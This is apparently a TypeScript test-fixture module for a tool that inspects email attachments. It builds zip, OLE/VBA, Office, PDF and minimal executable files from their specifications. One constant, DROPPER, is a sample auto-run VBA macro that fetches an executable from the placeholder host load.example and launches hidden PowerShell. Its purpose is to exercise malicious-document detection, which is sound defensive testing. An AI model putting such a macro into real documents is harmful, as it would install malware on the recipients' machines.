import { Buffer } from 'node:buffer';
import { crc32, deflateRawSync, deflateSync } from 'node:zlib';
import CFB from 'cfb';
import { Budget } from '../../src/attach/budget.ts';
import { inspectFiles } from '../../src/attach/inspect.ts';
import type { Attachment, FileFacts } from '../../src/types.ts';

/** Small writers of the formats that attachments come in. Everything here is made from the formats' specifications; no real file is needed. */

export const attach = (name: string, bytes: Uint8Array | string, declaredType = 'application/octet-stream'): Attachment =>
  ({ name, declaredType, bytes: typeof bytes === 'string' ? Buffer.from(bytes) : bytes, inline: false });

export interface Told extends FileFacts { readonly links: string[]; readonly text: string; readonly troubles: string[] }

/** What is told of one file. Time is given freely: a busy machine is not what these tests are about. */
export async function one(name: string, bytes: Uint8Array | string, declared?: string): Promise<Told> {
  const { files, links, texts, troubles } = await inspectFiles([attach(name, bytes, declared)], new Budget({ millis: 60_000 }));
  return { ...files[0]!, links: links.map(({ url }) => url), text: texts.map(({ text }) => text).join('\n'), troubles: troubles.map(({ code }) => code) };
}

export const flags = (facts: FileFacts): string[] => [...facts.flags].sort();

export function le(...fields: readonly (readonly [size: 1 | 2 | 4 | 8, value: number])[]): Buffer {
  return Buffer.concat(fields.map(([size, value]) => {
    const out = Buffer.alloc(size);
    if (size === 8) out.writeBigUInt64LE(BigInt(value));
    else out.writeUIntLE(value, 0, size);
    return out;
  }));
}

// ---------------------------------------------------------------- zip

export interface ZipEntry {
  readonly name: string | Uint8Array;
  readonly data?: Uint8Array | string;
  readonly method?: 0 | 8 | 99;
  /** Flag bit 0. */
  readonly encrypted?: boolean;
  /** Raw extra field of the central directory and the local header. */
  readonly extra?: Uint8Array;
  readonly utf8?: boolean;
  /** Size that is declared, when it is to be a lie. */
  readonly declared?: number;
  /** Name in the local header, when it is to be another. */
  readonly localName?: string;
  /** Already deflated data. */
  readonly packed?: Uint8Array;
}

export function zip(entries: readonly ZipEntry[], withDirectory = true): Buffer {
  const parts: Buffer[] = [];
  const directory: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const name = typeof entry.name === 'string' ? Buffer.from(entry.name) : Buffer.from(entry.name);
    const local = entry.localName === undefined ? name : Buffer.from(entry.localName);
    const data = Buffer.from(entry.data ?? '');
    const method = entry.method ?? 8;
    const packed = entry.packed === undefined ? (method === 8 ? deflateRawSync(data) : data) : Buffer.from(entry.packed);
    const extra = Buffer.from(entry.extra ?? []);
    const flags = (entry.encrypted === true ? 1 : 0) | (entry.utf8 === true ? 0x800 : 0);
    const size = entry.declared ?? data.length;
    const header = le([2, 20], [2, flags], [2, method], [2, 0], [2, 0x5a21], [4, crc32(data)], [4, packed.length], [4, size]);
    const first = Buffer.concat([le([4, 0x04034b50]), header, le([2, local.length], [2, extra.length]), local, extra, packed]);
    directory.push(Buffer.concat([le([4, 0x02014b50], [2, 20]), header, le([2, name.length], [2, extra.length], [2, 0], [2, 0], [2, 0], [4, 0], [4, offset]), name, extra]));
    parts.push(first);
    offset += first.length;
  }
  if (!withDirectory) return Buffer.concat(parts);
  const size = directory.reduce((sum, part) => sum + part.length, 0);
  return Buffer.concat([...parts, ...directory, le([4, 0x06054b50], [2, 0], [2, 0], [2, entries.length], [2, entries.length], [4, size], [4, offset], [2, 0])]);
}

// ---------------------------------------------------------------- OLE and VBA

/** A compound file of streams by path (`VBA/dir`). */
export function compound(streams: Readonly<Record<string, Uint8Array | string>>, clsids: Readonly<Record<string, string>> = {}): Buffer {
  const file = CFB.utils.cfb_new();
  for (const [path, content] of Object.entries(streams)) CFB.utils.cfb_add(file, `/${path}`, Buffer.from(content));
  CFB.utils.cfb_del(file, '/\u0001Sh33tJ5');
  for (const [name, clsid] of Object.entries(clsids)) {
    const at = name === '' ? 0 : file.FileIndex.findIndex((entry) => entry.name === name);
    file.FileIndex[at]!.clsid = clsid;
  }
  return Buffer.from(CFB.write(file, { type: 'buffer' }));
}

/** [MS-OVBA] 2.4.1.3.6 and on: a compressor that looks for the longest match, as the specification describes it. */
export function compressVba(data: Uint8Array): Buffer {
  const out: number[] = [1];
  for (let start = 0; start < data.length; start += 4096) {
    const end = Math.min(data.length, start + 4096);
    const chunk: number[] = [];
    let at = start;
    while (at < end) {
      const flagAt = chunk.push(0) - 1;
      for (let bit = 0; bit < 8 && at < end; bit++) {
        const { offset, length } = longestMatch(data, start, at, end);
        if (length < 3) {
          chunk.push(data[at++]!);
          continue;
        }
        const offsetBits = Math.max(4, Math.ceil(Math.log2(at - start)));
        const token = ((offset - 1) << (16 - offsetBits)) | (length - 3);
        chunk.push(token & 255, token >> 8);
        chunk[flagAt]! |= 1 << bit;
        at += length;
      }
    }
    if (chunk.length >= 4096 && end - start === 4096) out.push(0xff, 0x3f, ...data.subarray(start, end));
    else out.push((chunk.length - 1) & 255, 0xb0 | ((chunk.length - 1) >> 8), ...chunk);
  }
  return Buffer.from(out);
}

function longestMatch(data: Uint8Array, start: number, at: number, end: number): { offset: number; length: number } {
  if (at === start) return { offset: 0, length: 0 };
  const most = Math.min((1 << (16 - Math.max(4, Math.ceil(Math.log2(at - start))))) + 2, end - at);
  let best = { offset: 0, length: 0 };
  for (let from = at - 1; from >= start; from--) {
    let length = 0;
    while (length < most && data[from + length] === data[at + length]) length++;
    if (length > best.length) best = { offset: at - from, length };
  }
  return best;
}

export function vbaStreams(prefix: string, modules: Readonly<Record<string, string>>, codePage = 932): Record<string, Buffer> {
  const record = (id: number, data: Uint8Array): Buffer => Buffer.concat([le([2, id], [4, data.length]), data]);
  const junk = Buffer.from('compiled code stands here');
  const dir = [record(0x0001, le([4, 3])), record(0x0003, le([2, codePage])), Buffer.concat([le([2, 0x0009], [4, 4], [4, 1], [2, 7])])];
  const streams: Record<string, Buffer> = {};
  for (const [name, source] of Object.entries(modules)) {
    dir.push(record(0x0019, Buffer.from(name)), record(0x001a, Buffer.from(name)), record(0x0032, Buffer.from(name, 'utf16le')), record(0x0031, le([4, junk.length])), record(0x002b, Buffer.alloc(0)));
    streams[`${prefix}${name}`] = Buffer.concat([junk, compressVba(Buffer.from(`Attribute VB_Name = "${name}"\r\n${source}`))]);
  }
  streams[`${prefix}dir`] = compressVba(Buffer.concat(dir));
  streams[`${prefix}_VBA_PROJECT`] = Buffer.from('cc61ffff00000000', 'hex');
  return streams;
}

export const vbaProject = (modules: Readonly<Record<string, string>>): Buffer => compound({ ...vbaStreams('VBA/', modules), PROJECT: 'ID="{0}"' });

export const DROPPER = 'Sub AutoOpen()\r\nDim x As Object\r\nSet x = CreateObject("MSX" & "ML2.XMLHTTP")\r\nx.Open "GET", "http://load.example/a.exe", False\r\nShell "powershell -w hidden"\r\nEnd Sub\r\n';
export const SUMMER = 'Function SumUp(r As Range) As Double\r\nSumUp = Application.WorksheetFunction.Sum(r)\r\nEnd Function\r\n';

// ---------------------------------------------------------------- OOXML

export interface OfficeParts {
  readonly kind?: 'word' | 'xl' | 'ppt';
  readonly macro?: Uint8Array;
  readonly macroName?: string;
  readonly rels?: string;
  readonly parts?: Readonly<Record<string, Uint8Array | string>>;
  readonly text?: string;
  /** Inside w:p of the document. */
  readonly body?: string;
}

export function office({ kind = 'word', macro, macroName = 'vbaProject.bin', rels = '', parts = {}, text = '月次の報告です。', body = '' }: OfficeParts = {}): Buffer {
  const main = { word: 'word/document.xml', xl: 'xl/workbook.xml', ppt: 'ppt/presentation.xml' }[kind];
  const ml = { word: 'wordprocessingml.document', xl: 'spreadsheetml.sheet', ppt: 'presentationml.presentation' }[kind];
  const enabled = { word: 'ms-word.document', xl: 'ms-excel.sheet', ppt: 'ms-powerpoint.presentation' }[kind];
  const type = macro === undefined ? `application/vnd.openxmlformats-officedocument.${ml}.main+xml` : `application/vnd.${enabled}.macroEnabled.main+xml`;
  const content: Record<string, Uint8Array | string> = {
    '[Content_Types].xml': `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/${main}" ContentType="${type}"/></Types>`,
    '_rels/.rels': `<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="${main}"/></Relationships>`,
    [main]: kind === 'word' ? `<w:document><w:body><w:p><w:r><w:t>${text}</w:t></w:r></w:p><w:p>${body}</w:p></w:body></w:document>` : '<workbook/>',
    [`${kind}/_rels/${main.slice(main.indexOf('/') + 1)}.rels`]: `<Relationships>${rels}</Relationships>`,
    ...(macro === undefined ? {} : { [`${kind}/${macroName}`]: macro }),
    ...parts,
  };
  return zip(Object.entries(content).map(([name, data]) => ({ name, data })));
}

export const external = (type: string, target: string): string =>
  `<Relationship Id="x" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/>`;

// ---------------------------------------------------------------- PDF

export interface PdfParts {
  /** Text of the one page. */
  readonly text?: string;
  /** Goes into the catalogue. */
  readonly catalog?: string;
  /** Further objects, each without `n 0 obj`; the first has number 10. */
  readonly objects?: readonly (string | Buffer)[];
  readonly annotations?: string;
  readonly trailer?: string;
}

export function pdf({ text = 'Monthly report', catalog = '', objects = [], annotations = '', trailer = '' }: PdfParts = {}): Buffer {
  const content = `BT /F1 12 Tf 72 700 Td (${text}) Tj ET`;
  const body: [number, Buffer][] = [
    [1, Buffer.from(`<< /Type /Catalog /Pages 2 0 R ${catalog} >>`)],
    [2, Buffer.from('<< /Type /Pages /Kids [3 0 R] /Count 1 >>')],
    [3, Buffer.from(`<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /Annots [${annotations}] >>`)],
    [4, pdfStream('', content)],
    [5, Buffer.from('<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>')],
    ...objects.map((object, i): [number, Buffer] => [10 + i, Buffer.from(object as string)]),
  ];
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')];
  const places = new Map<number, number>();
  let at = parts[0]!.length;
  for (const [id, object] of body) {
    const whole = Buffer.concat([Buffer.from(`${id} 0 obj\n`), object, Buffer.from('\nendobj\n')]);
    places.set(id, at);
    parts.push(whole);
    at += whole.length;
  }
  const rows = [...places].map(([id, place]) => `${id} 1\n${String(place).padStart(10, '0')} 00000 n \n`).join('');
  parts.push(Buffer.from(`xref\n0 1\n0000000000 65535 f \n${rows}trailer\n<< /Size ${10 + objects.length} /Root 1 0 R ${trailer} >>\nstartxref\n${at}\n%%EOF\n`));
  return Buffer.concat(parts);
}

export function pdfStream(dictionary: string, data: Uint8Array | string, flate = false): Buffer {
  const bytes = flate ? deflateSync(Buffer.from(data)) : Buffer.from(data);
  return Buffer.concat([Buffer.from(`<< ${dictionary} ${flate ? '/Filter /FlateDecode ' : ''}/Length ${bytes.length} >>\nstream\n`), bytes, Buffer.from('\nendstream')]);
}

/** Objects packed into an object stream (ISO 32000-1, 7.5.7). */
export function objectStream(objects: readonly string[]): Buffer {
  let head = '';
  let at = 0;
  objects.forEach((object, i) => {
    head += `${100 + i} ${at} `;
    at += object.length + 1;
  });
  return pdfStream(`/Type /ObjStm /N ${objects.length} /First ${head.length}`, head + objects.join('\n'), true);
}

/** The least that counts as a Windows program: an MZ header that leads to a PE header. */
export function exe(): Buffer {
  return Buffer.concat([Buffer.from('MZ'), Buffer.alloc(58), le([4, 64]), Buffer.from('PE\0\0'), Buffer.alloc(64)]);
}
